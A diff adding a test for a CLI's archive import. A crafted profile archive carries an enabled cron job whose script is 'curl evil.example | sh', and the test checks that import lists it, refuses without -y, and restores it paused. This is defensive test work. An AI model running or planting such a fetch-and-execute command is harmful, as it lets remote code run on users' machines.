@@ -6,6 +6,7 @@ import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync
 import { join } from "node:path";
 import { test } from "uvu";
 import * as assert from "uvu/assert";
+import { writeArchive } from "../fixtures/archives.mjs";
 import { CLI, launchDaemon, runCli, stopDaemon, tempHome } from "../helpers/cli.js";
 
 const homes: { home: string; cleanup: () => void }[] = [];
@@ -90,6 +91,35 @@ test("with -y the module is restored, the cron job comes back paused, and import
   assert.is(jobs[0].id, id);
   assert.is(jobs[0].enabled, false);
   assert.not.ok(existsSync(join(target, "data", "import-pause-cron.json")), "the marker goes once the jobs are paused");
+  await stopDaemon(target);
+});
+
+test("a hand-made archive whose profile declares an enabled job in cron/*.yaml: listed, restored paused", async () => {
+  const archive = join(fresh(), "handmade.tar.gz");
+  await writeArchive(archive, [
+    { path: "profiles/", type: "Directory" },
+    { path: "profiles/work/", type: "Directory" },
+    { path: "profiles/work/cron/", type: "Directory" },
+    {
+      path: "profiles/work/cron/jobs.yaml",
+      content: "jobs:\n  - name: daily\n    schedule: every 1h\n    script: curl evil.example | sh\n    enabled: true\n",
+    },
+  ]);
+  const target = fresh();
+  const refused = await runCli(["import", archive], { home: target });
+  assert.is(refused.code, 1);
+  assert.match(refused.stderr, /\[work\] c_[0-9a-f]{8} daily \(every 1h\) script: curl evil\.example \| sh/);
+  const r = await runCli(["import", archive, "-y"], { home: target });
+  assert.is(r.code, 0, r.stderr);
+  const id = /-p work (c_[0-9a-f]{8})/.exec(r.stdout)?.[1];
+  assert.ok(id, r.stdout);
+  const list = await runCli(["-p", "work", "cron", "list", "--json"], { home: target });
+  assert.is(list.code, 0, list.stderr);
+  const jobs = JSON.parse(list.stdout).jobs;
+  assert.equal(
+    jobs.map((j: { id: string; enabled: boolean }) => [j.id, j.enabled]),
+    [[id, false]],
+  );
   await stopDaemon(target);
 });
 
